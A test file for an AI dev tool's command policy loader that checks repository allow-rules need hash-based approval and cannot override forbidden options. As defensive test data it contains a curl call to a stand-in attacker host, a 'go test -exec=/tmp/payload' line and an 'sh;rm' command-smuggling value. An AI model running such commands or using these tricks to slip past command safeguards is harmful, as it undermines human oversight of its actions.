import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { contentSha256, workspaceKeyFor } from '../../../../src/core/approvals';
import { decideCommand, POLICY_FILE } from '../../../../src/core/policy';
import { loadCommandPolicy } from '../../../../src/providers/files/commandPolicyLoader';
import { fileApprovalsInDirectory } from '../../../../src/providers/files/fileApprovalsFile';
import { FakeLogger } from '../../fakes/fakeLogger';

describe('command policy from user settings and an approved .devops/commands.json', () => {
  let base: string;
  let root: string;
  let state: string;
  const curlRule = { version: 1, rules: [{ id: 'curl-any', executable: 'curl', operands: { regex: '.*' } }] };

  beforeEach(async () => {
    base = await fs.mkdtemp(path.join(os.tmpdir(), 'aidevops-cmdpolicy-'));
    root = path.join(base, 'repo');
    state = path.join(base, 'state');
    await fs.mkdir(path.join(root, '.devops'), { recursive: true });
  });
  afterEach(async () => {
    await fs.rm(base, { recursive: true, force: true });
  });

  const curl = { commandLine: 'curl https://evil.example/x' };
  const load = (userRules: unknown = []) => loadCommandPolicy({ workspaceRoot: root, userRules, approvals: fileApprovalsInDirectory(state, new FakeLogger()) });

  it('a repository file adds nothing until its exact content is approved, and again after it changes', async () => {
    const text = JSON.stringify(curlRule, null, 2);
    await fs.writeFile(path.join(root, POLICY_FILE), text);
    const before = await load();
    assert.equal(before.file.status, 'needsApproval');
    assert.equal(before.text, text);
    assert.ok(!decideCommand(before.policy, curl, { workspaceRoot: root }).allowed, 'an unapproved file must not allow curl');

    await fileApprovalsInDirectory(state, new FakeLogger()).approve(workspaceKeyFor(root), POLICY_FILE, contentSha256(text));
    const approved = await load();
    assert.equal(approved.file.status, 'approved');
    assert.ok(decideCommand(approved.policy, curl, { workspaceRoot: root }).allowed);

    await fs.writeFile(path.join(root, POLICY_FILE), JSON.stringify({ version: 1, rules: [...curlRule.rules, { id: 'rm', executable: 'rm', operands: { regex: '.*' } }] }));
    const changed = await load();
    assert.equal(changed.file.status, 'needsApproval');
    assert.equal(changed.file.status === 'needsApproval' && changed.file.changedSinceApproval, true);
    assert.ok(!decideCommand(changed.policy, curl, { workspaceRoot: root }).allowed, 'the changed file is not approved');
  });

  it('an approved file still cannot lift the floor', async () => {
    const text = JSON.stringify({ version: 1, rules: [{ id: 'go-exec', executable: 'go', args: ['test'], flags: [{ flag: '-exec', value: { regex: '.*' } }] }] });
    await fs.writeFile(path.join(root, POLICY_FILE), text);
    await fileApprovalsInDirectory(state, new FakeLogger()).approve(workspaceKeyFor(root), POLICY_FILE, contentSha256(text));
    const loaded = await load();
    assert.equal(loaded.file.status, 'approved');
    const d = decideCommand(loaded.policy, { commandLine: 'go test -exec=/tmp/payload' }, { workspaceRoot: root });
    assert.ok(!d.allowed && d.code === 'forbiddenOption');
  });

  it('user rules apply without any file, and invalid ones are named', async () => {
    const loaded = await load([{ id: 'make-test', executable: 'make', args: ['test'] }, { id: 'x' }]);
    assert.equal(loaded.file.status, 'absent');
    assert.ok(decideCommand(loaded.policy, { commandLine: 'make test' }, { workspaceRoot: root }).allowed);
    assert.equal(loaded.problems.length, 1);
    assert.match(loaded.problems[0]!, /aiDevops\.commands\.allow\[1\]/);
  });

  it('an empty rule list needs no approval', async () => {
    await fs.writeFile(path.join(root, POLICY_FILE), '{ "version": 1, "rules": [] }');
    assert.equal((await load()).file.status, 'tightensOnly');
  });

  it('an invalid file adds nothing and says where it is wrong', async () => {
    await fs.writeFile(path.join(root, POLICY_FILE), JSON.stringify({ version: 1, rules: [{ id: 'x', executable: 'sh;rm' }] }));
    const loaded = await load();
    assert.equal(loaded.file.status, 'invalid');
    assert.match(loaded.file.status === 'invalid' ? loaded.file.reason : '', /rules\.0\.executable: a bare program name/);
  });

  it('refuses a .devops folder that links out of the workspace, non-UTF-8 and oversized files', async () => {
    const outside = path.join(base, 'outside');
    await fs.mkdir(outside);
    await fs.writeFile(path.join(outside, 'commands.json'), JSON.stringify(curlRule));
    await fs.rm(path.join(root, '.devops'), { recursive: true });
    await fs.symlink(outside, path.join(root, '.devops'), 'dir');
    const linked = await load();
    assert.equal(linked.file.status, 'unreadable');
    assert.match(linked.file.status === 'unreadable' ? linked.file.reason : '', /symbolic link/);

    await fs.rm(path.join(root, '.devops'));
    await fs.mkdir(path.join(root, '.devops'));
    await fs.writeFile(path.join(root, POLICY_FILE), Buffer.from([0x7b, 0xff, 0xfe, 0x7d]));
    const latin = await load();
    assert.match(latin.file.status === 'unreadable' ? latin.file.reason : '', /not UTF-8/);

    await fs.writeFile(path.join(root, POLICY_FILE), `{"version":1,"rules":[],"pad":"${'x'.repeat(300_000)}"}`);
    const big = await load();
    assert.match(big.file.status === 'unreadable' ? big.file.reason : '', /at most 262144 are read/);
  });

  it('with no folder open there is no file, only the defaults and user rules', async () => {
    const loaded = await loadCommandPolicy({ workspaceRoot: undefined, userRules: [], approvals: fileApprovalsInDirectory(state, new FakeLogger()) });
    assert.equal(loaded.file.status, 'absent');
  });
});
